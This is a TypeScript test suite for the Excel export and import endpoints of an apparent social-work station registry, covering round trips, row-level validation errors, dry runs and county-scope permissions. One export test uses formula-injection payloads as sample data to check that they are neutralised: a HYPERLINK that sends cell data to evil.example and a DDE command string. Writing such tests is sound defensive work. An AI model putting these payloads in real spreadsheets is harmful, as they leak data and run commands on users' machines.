import { eq } from 'drizzle-orm';
import ExcelJS from '../../platform/excel/exceljs.mjs';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/app.ts';
import { createStation } from '../../../test/factories.ts';
import { xlsxUpload } from '../../../test/upload.ts';
import { auditLog } from '../../platform/audit/audit.table.ts';
import { organizations } from '../organizations/organizations.table.ts';
import { stations, stationStatusHistory } from './stations.table.ts';

const t = useTestApp();

async function admin(regionCode = '4412') {
  const a = await t.loginAs({ role: 'region_admin', regionCode });
  const send = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown) =>
    t.app.inject({ method, url: `/api/v1${url}`, headers: { cookie: a.cookie }, payload: payload as never });
  const upload = (url: string, file: Buffer) => {
    const u = xlsxUpload(file);
    return t.app.inject({
      method: 'POST',
      url: `/api/v1${url}`,
      headers: { cookie: a.cookie, ...u.headers },
      payload: u.payload,
    });
  };
  return { ...a, send, upload };
}

/** A workbook as a user makes one: a header row and their rows. */
async function sheet(
  rows: unknown[][],
  headers = [
    '站点名称',
    '站点类型',
    '所属区划代码',
    '状态',
    '运营机构',
    '运营机构统一社会信用代码',
    '地址',
    '经度',
    '纬度',
    '坐标已核实',
    '开放时间',
    '联系电话',
    '服务项目',
    '启用日期',
    '暂停日期',
    '撤销日期',
    '示范点',
    '示范级别',
    '命名年份',
    '不公开位置',
    '例外原因',
  ],
) {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('站点');
  ws.addRow(headers);
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const point = (name: string, over: unknown[] = []) => [
  name,
  '社工点',
  '441202001',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  ...over,
];

/** The records as the API shows them, without what a re-creation cannot keep (ids, times, versions). */
async function register(send: Awaited<ReturnType<typeof admin>>['send']) {
  const res = await send('GET', '/stations?pageSize=100');
  return res
    .json()
    .rows.map(({ id, createdAt, updatedAt, version, abilities, organization, ...r }: Record<string, any>) => ({
      ...r,
      organization: organization?.name ?? null,
    }));
}

const audits = (action: string) => t.database.db.select().from(auditLog).where(eq(auditLog.action, action));

describe('stations: export', () => {
  it('exports the whole filtered result in scope, not one page, as 站点_YYYYMMDD.xlsx, and audits it', async () => {
    for (let i = 0; i < 25; i++) await createStation(t.database.db, { name: `服务点${String(i).padStart(2, '0')}` });
    await createStation(t.database.db, { name: '鼎湖站', regionCode: '441203001' });
    await createStation(t.database.db, { name: '城东社工室', kind: 'community', regionCode: '441202001002' });
    const a = await admin('441202');
    const res = await a.send('GET', '/stations/export?kind=point');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="stations_20260301.xlsx"; filename*=UTF-8''${encodeURIComponent('站点_20260301.xlsx')}`,
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const ws = wb.getWorksheet('站点')!;
    expect(ws.rowCount).toBe(26);
    expect(ws.getCell('A1').value).toBe('站点名称');
    expect(ws.getCell('B2').value).toBe('社工点');
    expect(ws.getCell('D2').value).toBe('广东省/肇庆市/端州区/端州区城东街道');
    const [row] = await audits('export');
    expect(row).toMatchObject({
      entity: 'station',
      actorName: a.username,
      detail: { count: 25, filters: { kind: 'point' } },
    });
  });

  it('writes text that starts like a formula (= + - @) neutralised with an apostrophe, never as a formula, and imports it back unchanged', async () => {
    const names = ['=HYPERLINK("http://evil.example/?q="&A2,"点此查看")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)'];
    for (const name of names) await createStation(t.database.db, { name, address: `=1+${name.length}` });
    await createStation(t.database.db, { name: '城东社工站' });
    const a = await admin();
    const res = await a.send('GET', '/stations/export');
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const ws = wb.getWorksheet('站点')!;
    const cells: { name: unknown; type: number }[] = [];
    ws.eachRow((row, n) => {
      if (n > 1) cells.push({ name: row.getCell(1).value, type: row.getCell(1).type });
    });
    expect(cells.map((c) => c.name).sort()).toEqual([...names.map((n) => `'${n}`), '城东社工站'].sort());
    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    const address = (ws.getRow(1).values as unknown[]).indexOf('地址');
    expect(String(ws.getRow(2).getCell(address).value)).toMatch(/^'=1\+/);
    // No cell of the file is a formula.
    expect(res.rawPayload.includes(Buffer.from('<f>'))).toBe(false);
    const again = await a.upload('/stations/import?dryRun=true', res.rawPayload);
    expect(again.json()).toMatchObject({ errors: [], created: 0, updated: 0, unchanged: 5 });
  });

  it('is refused to station staff', async () => {
    const head = await t.loginAs({ role: 'station_head', regionCode: '441202001' });
    const res = await t.app.inject({ method: 'GET', url: '/api/v1/stations/export', headers: { cookie: head.cookie } });
    expect(res.statusCode).toBe(403);
  });
});

describe('stations: import', () => {
  it('round trip: export the register, empty it, import the exported files, and get the same records', async () => {
    const a = await admin();
    const org = await a.send('POST', '/organizations', {
      type: 'agency',
      name: '端州区启航社会工作服务中心',
      creditCode: '91350100M000100Y43',
      regionCode: '441202',
      domains: ['elderly'],
      registeredOn: '2019-05-06',
    });
    expect(org.statusCode).toBe(201);
    const created = [
      {
        kind: 'town',
        regionCode: '441202001',
        name: '城东街道社工站',
        status: 'operating',
        openedOn: '2024-03-01',
        organizationId: org.json().id,
        lng: 112.47,
        lat: 23.05,
        phone: '0758-2222333',
        services: ['elderly', 'child_protection'],
        demonstration: true,
        demonstrationLevel: 'provincial',
        demonstrationYear: 2025,
        openingHours: '周一至周五 8:30-17:30',
        address: '城东路1号',
      },
      {
        kind: 'town',
        regionCode: '441202001',
        name: '城东第二社工站',
        status: 'operating',
        openedOn: '2025-01-02',
        overrideReason: '辖区人口多，另设一站',
      },
      {
        kind: 'community',
        regionCode: '441202001002',
        name: '杏花社区社工室',
        hidden: true,
        lng: 1.5,
        lat: 1.5,
        coordConfirmed: true,
      },
      { kind: 'hub', regionCode: '4412', name: '肇庆市社工总站' },
    ];
    for (const body of created) expect((await a.send('POST', '/stations', body)).statusCode).toBe(201);
    const closing = await a.send('GET', '/stations?q=总站');
    const hub = closing.json().rows[0];
    expect(
      (
        await a.send('POST', `/stations/${hub.id}/status`, {
          status: 'operating',
          on: '2025-01-01',
          version: hub.version,
        })
      ).statusCode,
    ).toBe(200);
    expect(
      (
        await a.send('POST', `/stations/${hub.id}/status`, {
          status: 'closed',
          on: '2026-02-01',
          reason: '合并',
          version: hub.version + 1,
        })
      ).statusCode,
    ).toBe(200);
    const before = await register(a.send);

    const orgFile = (await a.send('GET', '/organizations/export')).rawPayload;
    const stationFile = (await a.send('GET', '/stations/export')).rawPayload;
    await t.database.db.delete(stationStatusHistory);
    await t.database.db.delete(stations);
    await t.database.db.delete(organizations);

    const orgs = await a.upload('/organizations/import', orgFile);
    expect(orgs.json()).toMatchObject({ committed: true, created: 1, errors: [] });
    const res = await a.upload('/stations/import', stationFile);
    expect(res.json()).toMatchObject({
      committed: true,
      created: 4,
      updated: 0,
      unchanged: 0,
      errors: [],
      errorReport: null,
    });
    expect(await register(a.send)).toEqual(before);
  });

  it('refuses a sheet with wrong headers with one error naming them', async () => {
    const a = await admin();
    const res = await a.upload(
      '/stations/import',
      await sheet([['城东站', '社工点', '441202001']], ['站点名称', '类型', '所属区划代码', '备注']),
    );
    expect(res.statusCode).toBe(400);
    expect(res.json().errors).toEqual([
      {
        path: 'file',
        message: expect.stringMatching(/缺少列 站点类型、.*无法识别的列 类型、备注/),
        key: 'validation.excel.headers',
      },
    ]);
  });

  it("reports bad rows with row and column, writes nothing, and returns the user's workbook with an 错误信息 column", async () => {
    const a = await admin();
    const file = await sheet([
      point('好的服务点'),
      [
        '城东街道社工站',
        '乡镇(街道)社工站',
        '441202',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
      ],
      point('坐标远的点').map((v, i) => (i === 7 ? 120.5 : i === 8 ? 30.2 : v)),
      point('服务不对的点').map((v, i) => (i === 12 ? '社会救助、跳舞' : v)),
      point('机构不存在的点').map((v, i) => (i === 5 ? '91350100M000100Y44' : v)),
      point('好的服务点'),
    ]);
    await createStation(t.database.db, { name: '参照站', regionCode: '441202003', lng: 112.45, lat: 23.07 });
    const res = await a.upload('/stations/import', file);
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({ committed: false, dryRun: false });
    expect(body.errors.map((e: { text: string }) => e.text)).toEqual([
      '第3行 [所属区划代码]: 乡镇(街道)社工站的所属区划应为乡镇(街道)',
      expect.stringMatching(/^第4行 \[经度\]: 坐标距本县\(区\)其他站点中心约\d+公里/),
      '第5行 [服务项目]: “跳舞”不是可选值，可选：社会救助、养老服务、儿童关爱保护、残疾人服务、心理健康、社区治理、志愿服务、婚姻家庭、社区矫正、禁毒、青少年服务、退役军人服务、防灾减灾',
      '第6行 [运营机构统一社会信用代码]: 统一社会信用代码校验位错误（第18位）',
      '第7行 [站点名称]: 与第 2 行重复',
    ]);
    expect((await t.database.db.select().from(stations)).map((s) => s.name)).toEqual(['参照站']);
    expect(await audits('create')).toEqual([]);
    const report = new ExcelJS.Workbook();
    await report.xlsx.load(Buffer.from(body.errorReport, 'base64') as never);
    const ws = report.getWorksheet('站点')!;
    expect(ws.getCell('V1').value).toBe('错误信息');
    expect(ws.getCell('V2').value).toBeNull();
    expect(ws.getCell('V3').value).toBe('[所属区划代码] 乡镇(街道)社工站的所属区划应为乡镇(街道)');
  });

  it('the confirmation and override columns let the same rows through', async () => {
    const a = await admin();
    await createStation(t.database.db, { name: '参照站', regionCode: '441202003', lng: 112.45, lat: 23.07 });
    await createStation(t.database.db, { name: '城东老站', kind: 'town', status: 'operating', openedOn: '2020-01-01' });
    const row = (confirm: string, reason: string) => [
      [
        '城东新站',
        '乡镇(街道)社工站',
        '441202001',
        '运营',
        '',
        '',
        '',
        120.5,
        30.2,
        confirm,
        '',
        '',
        '',
        '2026-01-05',
        '',
        '',
        '',
        '',
        '',
        '',
        reason,
      ],
    ];
    const refused = (await a.upload('/stations/import', await sheet(row('否', '')))).json();
    expect(refused.errors.map((e: { column: string }) => e.column)).toEqual(['经度']);
    const taken = (await a.upload('/stations/import', await sheet(row('是', '')))).json();
    expect(taken.errors).toEqual([
      expect.objectContaining({ row: 2, column: '所属区划代码', message: expect.stringContaining('城东老站') }),
    ]);
    const ok = (await a.upload('/stations/import', await sheet(row('是', '人口多，另设一站')))).json();
    expect(ok).toMatchObject({ committed: true, created: 1, errors: [] });
    const [s] = await t.database.db.select().from(stations).where(eq(stations.name, '城东新站'));
    expect(s).toMatchObject({
      status: 'operating',
      coordReview: 'far_from_region',
      overrideReason: '人口多，另设一站',
    });
  });

  it('a dry run reports the counts and writes nothing', async () => {
    const a = await admin();
    await createStation(t.database.db, { name: '已有的点' });
    const res = await a.upload(
      '/stations/import?dryRun=true',
      await sheet([point('新点甲'), point('新点乙'), point('已有的点')]),
    );
    expect(res.json()).toMatchObject({
      dryRun: true,
      committed: false,
      created: 2,
      updated: 0,
      unchanged: 1,
      errors: [],
    });
    expect((await t.database.db.select().from(stations)).map((s) => s.name)).toEqual(['已有的点']);
    expect(await t.database.db.select().from(auditLog)).toEqual([]);
  });

  it('re-importing the same file changes nothing; an edited cell updates that one record', async () => {
    const a = await admin();
    const file = await sheet([point('甲点'), point('乙点')]);
    expect((await a.upload('/stations/import', file)).json()).toMatchObject({ committed: true, created: 2 });
    const again = await a.upload('/stations/import', file);
    expect(again.json()).toMatchObject({ committed: true, created: 0, updated: 0, unchanged: 2 });
    expect((await t.database.db.select().from(stations)).map((s) => s.version)).toEqual([1, 1]);

    const exported = new ExcelJS.Workbook();
    await exported.xlsx.load((await a.send('GET', '/stations/export')).rawPayload as never);
    const ws = exported.getWorksheet('站点')!;
    const yi = ws.getRow(ws.getCell('A2').value === '乙点' ? 2 : 3);
    yi.getCell(8).value = '城东路8号';
    const edited = Buffer.from(await exported.xlsx.writeBuffer());
    expect((await a.upload('/stations/import', edited)).json()).toMatchObject({
      committed: true,
      created: 0,
      updated: 1,
      unchanged: 1,
    });
    const [row] = await t.database.db.select().from(stations).where(eq(stations.name, '乙点'));
    expect(row).toMatchObject({ address: '城东路8号', version: 2 });
    const updates = await audits('update');
    expect(updates).toEqual([expect.objectContaining({ entity: 'station', entityIds: [row.id], fields: ['address'] })]);
    expect(await audits('import')).toHaveLength(3);

    // The same edited file again: the record changed since that export, but the row now matches it.
    expect((await a.upload('/stations/import', edited)).json()).toMatchObject({ unchanged: 2 });
    yi.getCell(8).value = '城东路9号';
    const stale = (await a.upload('/stations/import', Buffer.from(await exported.xlsx.writeBuffer()))).json();
    expect(stale.errors).toEqual([
      expect.objectContaining({ row: yi.number, column: '版本号', message: expect.stringContaining('当前版本 2') }),
    ]);
  });

  it('a county administrator cannot import into another county: a row error, nothing written', async () => {
    const a = await admin('441202');
    const res = await a.upload(
      '/stations/import',
      await sheet([point('本区的点'), ['鼎湖的点', '社工点', '441203001']]),
    );
    expect(res.json().errors.map((e: { text: string }) => e.text)).toEqual(['第3行 [所属区划代码]: 超出您的数据范围']);
    expect(await t.database.db.select().from(stations)).toEqual([]);
  });
});
